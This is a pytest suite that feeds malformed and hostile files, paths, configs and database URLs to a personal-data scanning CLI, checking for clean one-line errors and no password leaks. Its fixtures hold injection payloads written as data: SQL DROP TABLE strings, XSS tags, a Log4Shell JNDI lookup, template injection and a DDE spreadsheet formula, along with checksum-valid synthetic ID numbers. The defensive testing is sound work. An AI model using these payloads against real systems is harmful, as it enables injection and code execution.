"""Adversarial bad-input tests for the CLI (requirement: clear one-line errors, nothing lost or half-written).

Every hostile input must give either a scan that ran (exit 0, failures listed per table in `errors`, valid
sibling tables still scanned, the store consistent) or a single stderr line naming the offending
file / table / URL (password masked) with a non-zero exit and an untouched store. No traceback may escape
`main()`, no password may reach stdout or stderr, and `shuan detect` must emit exactly one JSON line per
input line with code-point offsets such that ``line[start:end] == text``.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import sqlite3
import stat
import sys
import threading
import time
import traceback
import uuid
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from shuan.cli.main import main
from shuan.config import get_settings

SECRET = "S3cretPW"
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

# ----------------------------------------------------------------------------------------------- helpers


@dataclass
class Result:
    code: int | None
    out: str
    err: str
    crash: str | None  # first line of an exception that escaped main(), if any


def run(capsys: pytest.CaptureFixture[str], *args: str) -> Result:
    get_settings.cache_clear()
    try:
        code: int | None = main(list(args))
        crash = None
    except (pytest.fail.Exception, pytest.skip.Exception, KeyboardInterrupt):
        raise
    except BaseException as exc:  # noqa: BLE001 - an escaped exception is the failure we look for
        code = None
        crash = traceback.format_exception_only(exc)[-1].strip()[:300]
    out, err = capsys.readouterr()
    return Result(code, out, err, crash)


def assert_clean(res: Result, secrets: tuple[str, ...] = (SECRET,)) -> None:
    assert res.crash is None, f"uncaught exception escaped main(): {res.crash}\nstderr: {res.err[:500]}"
    assert "Traceback" not in res.out + res.err, res.err[:2000]
    for secret in secrets:
        assert secret not in res.out and secret not in res.err, f"password leaked: {res.err[:500]}"


def assert_one_line_error(res: Result, *needles: str, secrets: tuple[str, ...] = (SECRET,)) -> str:
    assert_clean(res, secrets)
    assert res.code not in (0, None), f"expected a non-zero exit, got {res.code}; stderr={res.err[:500]!r}"
    lines = res.err.strip().splitlines()
    assert len(lines) == 1, f"error is not one line: {res.err[:1000]!r}"
    assert lines[0].startswith("错误："), lines[0]
    for needle in needles:
        assert needle in lines[0], f"{needle!r} not named in {lines[0]!r}"
    return lines[0]


_STORE_TABLES = ("sources", "scan_runs", "table_assets", "column_assets", "detections", "scan_errors")


def store_counts(home: Path) -> dict[str, int]:
    db = home / "shuan.db"
    if not db.exists():
        return {}
    with closing(sqlite3.connect(db)) as conn:
        present = {r[0] for r in conn.execute("select name from sqlite_master where type = 'table'")}
        return {t: conn.execute(f'select count(*) from "{t}"').fetchone()[0] for t in _STORE_TABLES if t in present}


def assert_store_empty(home: Path) -> None:
    counts = store_counts(home)
    assert not any(counts.values()), f"store written by a failed command: {counts}"


def assert_store_matches(home: Path, doc: dict[str, Any]) -> None:
    counts = store_counts(home)
    assert counts.get("scan_runs") == 1, counts
    assert counts.get("table_assets") == len(doc["tables"]), counts
    assert counts.get("scan_errors") == len(doc["errors"]), counts


def id_number(rng: random.Random) -> str:
    body = f"370811{rng.randint(1950, 2005)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(0, 999):03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


NAMES = ["张伟", "王芳", "李娜", "刘洋", "陈静", "杨帆", "赵丽", "黄磊", "周杰", "吴秀英"]


def people(n: int = 40, seed: int = 7) -> list[list[str]]:
    rng = random.Random(seed)
    return [[NAMES[i % len(NAMES)], id_number(rng), f"1{rng.choice('3589')}{rng.randint(0, 9)}{rng.randint(0, 99999999):08d}"]
            for i in range(n)]


HEADER = ["姓名", "公民身份号码", "联系电话"]


def people_csv(n: int = 40) -> str:
    return "\n".join(",".join(r) for r in [HEADER, *people(n)]) + "\n"


def types_of(table: dict[str, Any]) -> set[str]:
    return {t["type"] for c in table["columns"] for t in c["types"]}


# ------------------------------------------------------------------------------------- hostile file cases


def _w(path: Path, data: bytes | str) -> Path:
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def _xlsx(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.save(path)
    return path


def _people_xlsx_bytes(tmp: Path) -> bytes:
    return _xlsx(tmp / "_tmp_.xlsx.bin", {"s": [HEADER, *people(20)]}).read_bytes()


def mk_utf16_bom(d: Path) -> Path:
    return _w(d / "utf16bom.csv", people_csv().encode("utf-16"))


def mk_utf16_nobom(d: Path) -> Path:
    return _w(d / "utf16le.csv", people_csv().encode("utf-16-le"))


def mk_gbk(d: Path) -> Path:
    return _w(d / "gbk.csv", people_csv().encode("gbk"))


def mk_mixed_encoding(d: Path) -> Path:
    rows = people(600)
    head = "\n".join(",".join(r) for r in [HEADER, *rows[:300]]) + "\n"
    tail = "\n".join(",".join(r) for r in rows[300:]) + "\n"
    return _w(d / "mixed.csv", head.encode("utf-8") + tail.encode("gbk"))


def mk_nul(d: Path) -> Path:
    text = people_csv()
    return _w(d / "nul.csv", text[:200] + "\x00" + text[200:])


def mk_zip_as_csv(d: Path) -> Path:
    data = _people_xlsx_bytes(d)
    (d / "_tmp_.xlsx.bin").unlink()
    return _w(d / "really_xlsx.csv", data)


def mk_truncated_xlsx(d: Path) -> Path:
    data = _people_xlsx_bytes(d)
    (d / "_tmp_.xlsx.bin").unlink()
    return _w(d / "truncated.xlsx", data[: len(data) // 2])


def mk_ole_as_xlsx(d: Path) -> Path:
    return _w(d / "old_xls.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096))


def mk_zip_not_workbook(d: Path) -> Path:
    path = d / "notbook.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    return path


def mk_xlsx_empty_and_data(d: Path) -> Path:
    return _xlsx(d / "book.xlsx", {"空表": [], "数据": [HEADER, *people(20)]})


def mk_xlsx_all_empty(d: Path) -> Path:
    return _xlsx(d / "blank.xlsx", {"a": [], "b": []})


def mk_parquet_nested_binary(d: Path) -> Path:
    rows = people(30)
    table = pa.table({
        "姓名": [r[0] for r in rows],
        "联系电话": [r[2] for r in rows],
        "profile": pa.array([{"id": r[1], "tags": ["a", "b"], "inner": {"x": i}} for i, r in enumerate(rows)]),
        "photo": pa.array([os.urandom(64) for _ in rows], type=pa.binary()),
        "blob_utf8ish": pa.array([r[2].encode() for r in rows], type=pa.large_binary()),
        "nothing": pa.nulls(30),
        "dict": pa.array([r[0] for r in rows]).dictionary_encode(),
    })
    pq.write_table(table, d / "nested.parquet")
    return d / "nested.parquet"


def mk_parquet_truncated(d: Path) -> Path:
    pq.write_table(pa.table({"a": list(range(1000))}), d / "_p")
    data = (d / "_p").read_bytes()
    (d / "_p").unlink()
    return _w(d / "cut.parquet", data[: len(data) - 20])


def mk_parquet_zero_rows(d: Path) -> Path:
    pq.write_table(pa.table({"姓名": pa.array([], type=pa.string())}), d / "zero.parquet")
    return d / "zero.parquet"


def mk_sqlite_corrupt(d: Path) -> Path:
    return _w(d / "corrupt.db", b"SQLite format 3\x00" + os.urandom(8192))


def mk_sqlite_header_only(d: Path) -> Path:
    return _w(d / "stub.db", b"SQLite format 3\x00")


WEIRD_TABLES = ['a"b', "select", "my table", "表 名", "'; DROP TABLE t; --", "x]y`z"]


def mk_sqlite_weird(d: Path) -> Path:
    path = d / "weird.db"
    with closing(sqlite3.connect(path)) as conn:
        for name in WEIRD_TABLES:
            q = '"' + name.replace('"', '""') + '"'
            conn.execute(f'create table {q} ("from" text, "联系 电话" text, "b""lob" blob)')
            conn.executemany(f"insert into {q} values (?, ?, ?)",
                             [(r[0], r[2], os.urandom(32)) for r in people(20)])
        conn.commit()
    return path


def mk_sqlite_broken_view(d: Path) -> Path:
    path = d / "views.db"
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("create table t (姓名 text, 联系电话 text)")
        conn.executemany("insert into t values (?, ?)", [(r[0], r[2]) for r in people(20)])
        conn.execute("create table gone (x text)")
        conn.execute("create view broken as select x from gone")
        conn.execute("drop table gone")
        conn.commit()
    return path


def mk_sqlite_unknown_vtab(d: Path) -> Path:
    path = d / "vtab.db"
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("create table ok (联系电话 text)")
        conn.executemany("insert into ok values (?)", [(r[2],) for r in people(20)])
        conn.execute("pragma writable_schema = on")
        conn.execute("insert into sqlite_master (type, name, tbl_name, rootpage, sql) values "
                     "('table', 'vt', 'vt', 0, 'CREATE VIRTUAL TABLE vt USING nosuchmodule(a)')")
        conn.commit()
    return path


def mk_spaces_chinese(d: Path) -> Path:
    return _w(d / "人口 信息 表 (2024).csv", people_csv())


def mk_gbk_filename(d: Path) -> Path:
    raw = os.fsencode(d) + b"/" + "人口信息".encode("gbk") + b".csv"
    with open(raw, "wb") as fh:
        fh.write(people_csv().encode())
    return Path(os.fsdecode(raw))


def mk_newline_filename(d: Path) -> Path:
    return _w(d / "bad\nname.csv", b"")


def mk_huge_cell(d: Path) -> Path:
    rows = people(20)
    rows[3][0] = "张" * 2_000_000
    return _w(d / "huge.csv", "\n".join(",".join(r) for r in [HEADER, *rows]) + "\n")


def mk_oversize_cell(d: Path) -> Path:
    rows = people(20)
    rows[3][0] = "x" * (9 * 1024 * 1024)
    return _w(d / "oversize.csv", "\n".join(",".join(r) for r in [HEADER, *rows]) + "\n")


def mk_huge_jsonl_cell(d: Path) -> Path:
    rows = [{"姓名": r[0], "联系电话": r[2]} for r in people(20)]
    rows[5]["备注"] = "长" * 2_000_000
    return _w(d / "hugecell.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n")


HOSTILE_COLUMNS = ['"; DROP TABLE scan_runs; --', "<script>alert(1)</script>", "C" * 10_000, "dup", "dup", "", " ",
                   "=1+1", "联系电话"]


def mk_hostile_columns(d: Path) -> Path:
    import csv

    path = d / "cols.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HOSTILE_COLUMNS)
        for r in people(30):
            w.writerow(["x", "y", "z", r[0], r[0], "", "", "1", r[2]])
    return path


INJECTION_VALUES = ["'; DROP TABLE scan_runs; --", "<img src=x onerror=alert(1)>", "${jndi:ldap://x/a}", "{{7*7}}",
                    "=cmd|' /C calc'!A0", "\u202egnp.exe", "\x1b[2J\x1b[31m", "NULL", "\\N"]


def mk_injection_values(d: Path) -> Path:
    import csv

    path = d / "inject.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["备注", "联系电话"])
        for i, r in enumerate(people(36)):
            w.writerow([INJECTION_VALUES[i % len(INJECTION_VALUES)], r[2]])
    return path


def mk_jsonl_one_bad(d: Path) -> Path:
    lines = [json.dumps({"姓名": r[0], "联系电话": r[2]}, ensure_ascii=False) for r in people(40)]
    lines[20] = '{"broken": '
    return _w(d / "onebad.jsonl", "\n".join(lines) + "\n")


def mk_ragged(d: Path) -> Path:
    lines = people_csv().splitlines()
    lines[5] += ",extra,fields"
    lines[9] = "only-one-field"
    return _w(d / "ragged.csv", "\n".join(lines) + "\n")


def mk_unterminated_quote(d: Path) -> Path:
    return _w(d / "quote.csv", people_csv() + '张三,"370811,13800000000\n李四,1,2\n')


def mk_many_columns(d: Path) -> Path:
    cols = [f"c{i}" for i in range(300)]
    rows = [",".join(cols)] + [",".join(str(i * j) for j in range(300)) for i in range(5)]
    return _w(d / "wide.csv", "\n".join(rows) + "\n")


def mk_fifo_csv(d: Path) -> Path:
    os.mkfifo(d / "pipe.csv")
    return d / "pipe.csv"


def mk_symlink_loop(d: Path) -> Path:
    (d / "loop_a.csv").symlink_to(d / "loop_b.csv")
    (d / "loop_b.csv").symlink_to(d / "loop_a.csv")
    return d / "loop_a.csv"


def mk_dir_symlink_loop(d: Path) -> Path:
    sub = d / "sub"
    sub.mkdir()
    (sub / "up").symlink_to(d, target_is_directory=True)
    (sub / "self").symlink_to(sub, target_is_directory=True)
    return sub


def mk_device_links(d: Path) -> Path:
    (d / "zero.csv").symlink_to("/dev/zero")
    (d / "null.db").symlink_to("/dev/null")
    return d / "zero.csv"


def mk_unreadable(d: Path) -> Path:
    path = _w(d / "secret.csv", people_csv())
    path.chmod(0)
    return path


@dataclass(frozen=True)
class FileCase:
    id: str
    make: Callable[[Path], Path]
    #: table name → "ok" | "error" | "either" | "absent" (as seen when the file sits in a directory)
    tables: dict[str, str]
    check: Callable[[dict[str, Any]], None] | None = None
    needs_non_root: bool = False
    slow: bool = False


def _has_mobile(name: str) -> Callable[[dict[str, Any]], None]:
    def check(doc: dict[str, Any]) -> None:
        table = next(t for t in doc["tables"] if t["name"] == name)
        assert "cn_mobile" in types_of(table), f"{name}: mobiles not detected: {types_of(table)}"

    return check


def _rows_zero_if_ok(name: str) -> Callable[[dict[str, Any]], None]:
    def check(doc: dict[str, Any]) -> None:
        for t in doc["tables"]:
            if t["name"] == name:
                assert t["rows"] == 0, t

    return check


def _jsonl_skipped(doc: dict[str, Any]) -> None:
    table = next(t for t in doc["tables"] if t["name"] == "onebad")
    assert table["rows"] == 39 and table["warnings"], table


def _ragged_warned(doc: dict[str, Any]) -> None:
    table = next(t for t in doc["tables"] if t["name"] == "ragged")
    assert table["warnings"] and "cn_mobile" in types_of(table), table


def _columns_kept(doc: dict[str, Any]) -> None:
    table = next(t for t in doc["tables"] if t["name"] == "cols")
    names = [c["name"] for c in table["columns"]]
    assert len(names) == len(HOSTILE_COLUMNS) and len(set(names)) == len(names), names
    assert HOSTILE_COLUMNS[0] in names and HOSTILE_COLUMNS[1] in names and "C" * 10_000 in names


def _weird_all_scanned(doc: dict[str, Any]) -> None:
    got = {t["name"] for t in doc["tables"]}
    missing = {f"weird.{n}" for n in WEIRD_TABLES} - got
    assert not missing, f"tables with odd names not scanned: {missing}; errors={doc['errors']}"


FILE_CASES = [
    FileCase("empty-csv", lambda d: _w(d / "empty.csv", b""), {"empty": "error"}),
    FileCase("header-only-csv", lambda d: _w(d / "header.csv", "姓名,联系电话\n"), {"header": "either"},
             _rows_zero_if_ok("header")),
    FileCase("blank-lines-csv", lambda d: _w(d / "blank.csv", "\n\n\r\n\n   \n"), {"blank": "either"},
             _rows_zero_if_ok("blank")),
    FileCase("bom-only-csv", lambda d: _w(d / "bom.csv", b"\xef\xbb\xbf"), {"bom": "either"}, _rows_zero_if_ok("bom")),
    FileCase("nul-byte-csv", mk_nul, {"nul": "either"}),
    FileCase("utf16-bom-csv", mk_utf16_bom, {"utf16bom": "ok"}, _has_mobile("utf16bom")),
    FileCase("utf16-no-bom-csv", mk_utf16_nobom, {"utf16le": "either"}),
    FileCase("gbk-csv", mk_gbk, {"gbk": "ok"}, _has_mobile("gbk")),
    FileCase("mixed-utf8-gbk-csv", mk_mixed_encoding, {"mixed": "either"}),
    FileCase("zip-named-csv", mk_zip_as_csv, {"really_xlsx": "error"}),
    FileCase("truncated-xlsx", mk_truncated_xlsx, {"truncated": "error"}),
    FileCase("ole2-named-xlsx", mk_ole_as_xlsx, {"old_xls": "error"}),
    FileCase("zip-without-workbook", mk_zip_not_workbook, {"notbook": "error"}),
    FileCase("xlsx-empty-and-data-sheet", mk_xlsx_empty_and_data, {"book": "ok"}, _has_mobile("book")),
    FileCase("xlsx-all-sheets-empty", mk_xlsx_all_empty, {"blank": "either"}, _rows_zero_if_ok("blank")),
    FileCase("json-scalar", lambda d: _w(d / "scalar.json", "42"), {"scalar": "error"}),
    FileCase("json-null", lambda d: _w(d / "jnull.json", "null"), {"jnull": "either"}, _rows_zero_if_ok("jnull")),
    FileCase("json-nested-arrays", lambda d: _w(d / "arrays.json", "[[1,2],[3,[4,[5]]]]"), {"arrays": "either"}),
    FileCase("json-invalid", lambda d: _w(d / "broken.json", '[{"a": 1}, {"a": '), {"broken": "error"}),
    FileCase("json-deep-nesting", lambda d: _w(d / "deep.json", "[" * 200_000 + "]" * 200_000), {"deep": "either"}),
    FileCase("json-empty-array", lambda d: _w(d / "none.json", "[]"), {"none": "either"}, _rows_zero_if_ok("none")),
    FileCase("jsonl-one-bad-line", mk_jsonl_one_bad, {"onebad": "ok"}, _jsonl_skipped),
    FileCase("parquet-struct-and-binary", mk_parquet_nested_binary, {"nested": "ok"}, _has_mobile("nested")),
    FileCase("parquet-truncated", mk_parquet_truncated, {"cut": "error"}),
    FileCase("parquet-zero-rows", mk_parquet_zero_rows, {"zero": "either"}, _rows_zero_if_ok("zero")),
    FileCase("sqlite-corrupt-body", mk_sqlite_corrupt, {"corrupt": "error"}),
    FileCase("sqlite-header-only", mk_sqlite_header_only, {"stub": "error"}),
    FileCase("sqlite-odd-table-names", mk_sqlite_weird, {f"weird.{n}": "ok" for n in WEIRD_TABLES}, _weird_all_scanned),
    FileCase("sqlite-broken-view", mk_sqlite_broken_view, {"views.t": "ok", "views.broken": "error"},
             _has_mobile("views.t")),
    FileCase("sqlite-unknown-virtual-table", mk_sqlite_unknown_vtab, {"vtab.ok": "ok", "vtab.vt": "either"}),
    FileCase("name-with-spaces-and-chinese", mk_spaces_chinese, {"人口 信息 表 (2024)": "ok"},
             _has_mobile("人口 信息 表 (2024)")),
    FileCase("gbk-encoded-file-name", mk_gbk_filename, {}),
    FileCase("newline-in-file-name", mk_newline_filename, {"bad\nname": "error"}),
    FileCase("2M-char-cell-csv", mk_huge_cell, {"huge": "ok"}, _has_mobile("huge"), slow=True),
    FileCase("9MiB-cell-csv", mk_oversize_cell, {"oversize": "either"}, slow=True),
    FileCase("2M-char-cell-jsonl", mk_huge_jsonl_cell, {"hugecell": "ok"}, _has_mobile("hugecell"), slow=True),
    FileCase("hostile-column-names", mk_hostile_columns, {"cols": "ok"}, _columns_kept),
    FileCase("injection-values", mk_injection_values, {"inject": "ok"}, _has_mobile("inject")),
    FileCase("ragged-rows-csv", mk_ragged, {"ragged": "ok"}, _ragged_warned),
    FileCase("unterminated-quote-csv", mk_unterminated_quote, {"quote": "either"}),
    FileCase("300-columns-csv", mk_many_columns, {"wide": "ok"}),
    FileCase("fifo-named-csv", mk_fifo_csv, {"pipe": "absent"}),
    FileCase("file-symlink-loop", mk_symlink_loop, {"loop_a": "absent", "loop_b": "absent"}),
    FileCase("dir-symlink-loop", mk_dir_symlink_loop, {}),
    FileCase("device-symlinks", mk_device_links, {"zero": "absent", "null.": "absent"}),
    FileCase("no-read-permission", mk_unreadable, {"secret": "error"}, needs_non_root=True),
]


def _maybe_skip(case: FileCase) -> None:
    if case.needs_non_root and IS_ROOT:
        pytest.skip("running as root: file permissions are not enforced")


def _outcome(name: str, tables: dict[str, Any], errors: dict[str, str]) -> str:
    if name in tables and name in errors:
        return "both"
    if name in tables:
        return "ok"
    if name in errors:
        return "error"
    return "absent"


@pytest.mark.parametrize("case", FILE_CASES, ids=lambda c: c.id)
def test_hostile_file_next_to_a_good_one(capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_home: Path,
                                         case: FileCase) -> None:
    """A directory scan goes on past the hostile file: exit 0, `good` scanned, failures listed per table."""
    _maybe_skip(case)
    folder = tmp_path / "src"
    folder.mkdir()
    _w(folder / "good.csv", people_csv())
    case.make(folder)
    res = run(capsys, "scan", str(folder), "--format", "json")
    assert_clean(res)
    assert res.code == 0, f"directory scan aborted (exit {res.code}): {res.err.strip()}"
    doc = json.loads(res.out)
    tables = {t["name"]: t for t in doc["tables"]}
    errors = {e["table"]: e["error"] for e in doc["errors"]}
    assert "good" in tables and "cn_mobile" in types_of(tables["good"]), doc["errors"]
    for e in doc["errors"]:
        assert e["error"] and "\n" not in e["error"] and "\r" not in e["error"], f"multi-line error: {e!r}"
        own = e["table"].rsplit(".", 1)[-1]
        shown = own.translate({10: "\\n", 13: "\\r", 9: "\\t"})  # messages show control characters escaped
        assert shown in e["error"], f"error does not name its table: {e!r}"
        assert "Traceback" not in e["error"]
    for name, want in case.tables.items():
        if name.endswith("."):  # a prefix: no table of that file at all
            hits = [n for n in [*tables, *errors] if n.startswith(name)]
            assert not hits, hits
            continue
        got = _outcome(name, tables, errors)
        assert got != "both", name
        if want == "either":
            assert got in ("ok", "error"), f"{name!r}: neither scanned nor reported (tables={list(tables)})"
        else:
            assert got == want, f"{name!r}: expected {want}, got {got}; errors={doc['errors']}"
    if case.check is not None:
        case.check(doc)
    assert_store_matches(isolated_home, doc)


_STDERR_INFO = ("扫描完成：", "扫描结果已保存")


@pytest.mark.parametrize("case", [c for c in FILE_CASES if c.id not in ("dir-symlink-loop",)], ids=lambda c: c.id)
def test_hostile_file_alone(capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_home: Path,
                            case: FileCase) -> None:
    """Scanning the hostile file itself (table output): either the scan ran and each failure is one stderr
    line, or one error line naming the file and a non-zero exit with nothing stored."""
    _maybe_skip(case)
    path = case.make(tmp_path)
    res = run(capsys, "scan", str(path))
    assert_clean(res)
    expected = set(case.tables.values())
    if res.code == 0:
        assert "absent" not in expected, f"{path.name!r} is not a data file but the scan 'succeeded': {res.err}"
        lines = res.err.strip().splitlines()
        stray = [ln for ln in lines if not ln.startswith(("错误：", *_STDERR_INFO))]
        assert not stray, f"stderr lines that are neither an error nor the summary: {stray[:3]}"
        summary = next(ln for ln in lines if ln.startswith("扫描完成："))
        n_errors = int(re.search(r"(\d+) 个错误", summary).group(1))  # type: ignore[union-attr]
        assert sum(ln.startswith("错误：") for ln in lines) == n_errors, res.err
        if expected == {"error"}:
            assert n_errors >= 1, res.err
    else:
        assert_one_line_error(res)
        assert path.name in res.err or str(path) in res.err, f"error does not name the file: {res.err!r}"
        assert_store_empty(isolated_home)


@pytest.mark.timeout(30)
def test_fifo_named_like_a_database_does_not_hang(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A FIFO called `x.db` in a directory must be skipped, not opened (opening blocks until a writer comes)."""
    folder = tmp_path / "src"
    folder.mkdir()
    _w(folder / "good.csv", people_csv())
    fifo = folder / "pipe.db"
    os.mkfifo(fifo)
    released = threading.Event()

    def release() -> None:  # unblock a reader stuck in open() after a few seconds, so the test cannot hang
        if not released.wait(3):
            with open(fifo, "wb"):
                pass

    helper = threading.Thread(target=release, daemon=True)
    helper.start()
    started = time.monotonic()
    try:
        res = run(capsys, "scan", str(folder), "--format", "json", "--no-save")
    finally:
        released.set()
        helper.join()
    elapsed = time.monotonic() - started
    assert_clean(res)
    assert elapsed < 2.5, f"scan blocked {elapsed:.1f}s opening the FIFO {fifo.name}"
    assert res.code == 0 and "good" in {t["name"] for t in json.loads(res.out)["tables"]}


def test_unreadable_subdirectory(capsys: pytest.CaptureFixture[str], tmp_path: Path, isolated_home: Path) -> None:
    if IS_ROOT:
        pytest.skip("running as root: directory permissions are not enforced")
    folder = tmp_path / "src"
    (folder / "locked").mkdir(parents=True)
    _w(folder / "good.csv", people_csv())
    _w(folder / "locked" / "hidden.csv", people_csv())
    (folder / "locked").chmod(0)
    try:
        res = run(capsys, "scan", str(folder), "--format", "json")
    finally:
        (folder / "locked").chmod(stat.S_IRWXU)
    assert_clean(res)
    assert res.code == 0
    assert "good" in {t["name"] for t in json.loads(res.out)["tables"]}


# ------------------------------------------------------------------------------ source-level bad input


@dataclass(frozen=True)
class SourceCase:
    id: str
    args: list[str]
    needles: list[str]
    setup: Callable[[Path], None] | None = None
    env: dict[str, str] = field(default_factory=dict)
    #: "fail" (one-line error, non-zero) or "fail-or-run" (a scan that ran is acceptable too)
    expect: str = "fail"


def _bad_scheme(level: int) -> Callable[[Path], None]:
    def setup(tmp: Path) -> None:
        text = (Path(__file__).parents[2] / "src/shuan/grading/schemes/jining-2020.yaml").read_text(encoding="utf-8")
        text = text.replace("cn_resident_id: {level: 2", f"cn_resident_id: {{level: {level}", 1)
        (tmp / "bad_scheme.yaml").write_text(text, encoding="utf-8")

    return setup


def _write(name: str, data: bytes | str) -> Callable[[Path], None]:
    return lambda tmp: None if _w(tmp / name, data) else None


SOURCE_CASES = [
    SourceCase("missing-file", ["scan", "{tmp}/nope/没有.csv"], ["没有.csv"]),
    SourceCase("empty-directory", ["scan", "{tmp}/emptydir"], ["emptydir"], setup=lambda t: (t / "emptydir").mkdir()),
    SourceCase("directory-of-unsupported-files", ["scan", "{tmp}/junk"], ["junk"],
               setup=lambda t: ((t / "junk").mkdir(), _w(t / "junk" / "a.txt", "x"), _w(t / "junk" / "b.doc", "y"))),
    SourceCase("dev-null", ["scan", "/dev/null"], ["/dev/null"]),
    SourceCase("unsupported-extension", ["scan", "{tmp}/data.pdf"], ["data.pdf"], setup=_write("data.pdf", "%PDF-1.4")),
    SourceCase("sample-negative", ["scan", "{tmp}/ok.csv", "--sample", "-5"], ["-5"]),
    SourceCase("sample-not-a-number", ["scan", "{tmp}/ok.csv", "--sample", "lots"], ["lots"]),
    SourceCase("sample-astronomical", ["scan", "{tmp}/ok.csv", "--sample", "99999999999999999999"], [],
               expect="fail-or-run"),
    SourceCase("workers-zero", ["scan", "{tmp}/ok.csv", "--workers", "0"], ["0"]),
    SourceCase("scheme-unknown-id", ["scan", "{tmp}/ok.csv", "--scheme", "no-such-scheme"], ["no-such-scheme"]),
    SourceCase("scheme-yaml-bad-level", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/bad_scheme.yaml"],
               ["bad_scheme.yaml"], setup=_bad_scheme(7)),
    SourceCase("scheme-yaml-level-zero", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/bad_scheme.yaml"],
               ["bad_scheme.yaml"], setup=_bad_scheme(0)),
    SourceCase("scheme-yaml-syntax", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/s.yaml"], ["s.yaml"],
               setup=_write("s.yaml", "id: [unclosed\n  levels: {")),
    SourceCase("scheme-yaml-list", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/s.yaml"], ["s.yaml"],
               setup=_write("s.yaml", "- 1\n- 2\n")),
    SourceCase("scheme-yaml-empty", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/s.yaml"], ["s.yaml"],
               setup=_write("s.yaml", "")),
    SourceCase("scheme-yaml-not-utf8", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/s.yaml"], ["s.yaml"],
               setup=_write("s.yaml", "name: 济宁\n".encode("gbk"))),
    SourceCase("scheme-yaml-is-directory", ["scan", "{tmp}/ok.csv", "--scheme", "{tmp}/d.yaml"], ["d.yaml"],
               setup=lambda t: (t / "d.yaml").mkdir()),
    SourceCase("recognizers-missing", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/none.yaml"], ["none.yaml"]),
    SourceCase("recognizers-bad-regex", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers:\n  - {type: case_no, name: 案号, label: 案号, patterns: ['([a-']}\n")),
    SourceCase("recognizers-python-only-backref", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers:\n  - {type: case_no, name: 案号, label: 案号, "
                                      "patterns: ['(?P<x>[0-9])(?P=x)+']}\n")),
    SourceCase("recognizers-python-only-possessive", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"],
               ["r.yaml"], expect="fail-or-run",  # Rust regex happens to accept possessive repeats
               setup=_write("r.yaml", "recognizers:\n  - {type: case_no, name: 案号, label: 案号, patterns: ['A[0-9]++']}\n")),
    SourceCase("recognizers-python-only-atomic", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers:\n  - {type: case_no, name: 案号, label: 案号, patterns: ['(?>A|AB)C']}\n")),
    SourceCase("recognizers-unknown-validator", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers:\n  - {type: case_no, name: 案号, label: 案号, patterns: ['A'], "
                                      "validator: nope}\n")),
    SourceCase("recognizers-not-utf8", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "recognizers:\n  - {type: a_b, name: 案号, label: 案号, patterns: ['A']}\n".encode("gbk"))),
    SourceCase("recognizers-scalar-file", ["scan", "{tmp}/ok.csv", "--recognizers", "{tmp}/r.yaml"], ["r.yaml"],
               setup=_write("r.yaml", "just a string")),
    SourceCase("env-recognizers-missing", ["scan", "{tmp}/ok.csv"], ["gone.yaml"], env={"SHUAN_RECOGNIZERS": "{tmp}/gone.yaml"}),
    SourceCase("env-sample-rows-negative", ["scan", "{tmp}/ok.csv"], ["SHUAN_SAMPLE_ROWS"],
               env={"SHUAN_SAMPLE_ROWS": "-1"}),
    SourceCase("env-batch-rows-garbage", ["scan", "{tmp}/ok.csv"], ["SHUAN_BATCH_ROWS"], env={"SHUAN_BATCH_ROWS": "many"}),
    SourceCase("env-scheme-unknown", ["scan", "{tmp}/ok.csv"], ["nope-scheme"], env={"SHUAN_SCHEME": "nope-scheme"}),
    SourceCase("newline-in-missing-path", ["scan", "{tmp}/no\nsuch.csv"], ["such.csv"]),
    SourceCase("empty-source-string", ["scan", ""], []),
    # databases
    SourceCase("pg-wrong-role-and-password", ["scan", f"postgresql://nobody:{SECRET}@127.0.0.1:5432/test"],
               ["postgresql://nobody:***@127.0.0.1:5432/test"]),
    SourceCase("pg-wrong-port", ["scan", f"postgresql://nobody:{SECRET}@127.0.0.1:1/test"], ["127.0.0.1:1"]),
